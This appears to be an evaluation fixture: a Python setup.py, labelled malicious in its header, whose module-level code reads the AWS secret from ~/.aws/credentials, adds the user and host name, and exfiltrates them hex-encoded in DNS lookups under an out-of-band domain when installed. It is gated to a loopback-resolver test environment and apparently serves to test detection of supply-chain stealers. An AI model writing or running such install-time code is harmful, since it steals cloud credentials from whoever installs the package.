# Evaluation fixture (malicious): DNS-label exfiltration, as dependency-
# confusion "research" packages and real stealers do.  Module-level code
# hex-encodes the AWS secret, the user and the host name into DNS labels
# and looks the names up under an out-of-band domain; the resolver carries
# the data out even where direct connections are blocked.  Acts only inside
# the evaluation: SP_DNS_DOMAIN set and every nameserver in
# /etc/resolv.conf on loopback.
import getpass
import os
import socket

from setuptools import setup


def _resolvers_are_local():
    try:
        with open("/etc/resolv.conf") as f:
            ns = [l.split()[1] for l in f if l.startswith("nameserver") and len(l.split()) > 1]
    except OSError:
        return False
    return bool(ns) and all(n.startswith("127.") for n in ns)


def _leak():
    domain = os.environ.get("SP_DNS_DOMAIN")
    if not os.environ.get("SP_TOKEN") or not domain or not _resolvers_are_local():
        return
    secret = ""
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as f:
            secret = "".join(l for l in f if "secret" in l)
    except OSError:
        pass
    data = ("%s|%s|%s" % (getpass.getuser(), socket.gethostname(), secret.strip())).encode()
    sid = os.urandom(3).hex()
    for seq, i in enumerate(range(0, len(data), 30)):
        name = "%d.%s.%s.%s" % (seq, data[i:i + 30].hex(), sid, domain)
        try:
            socket.getaddrinfo(name, 80, socket.AF_INET)
        except OSError:
            pass


_leak()

setup(name="dns-label-exfil", version="0.0.7", py_modules=["placeholder"])
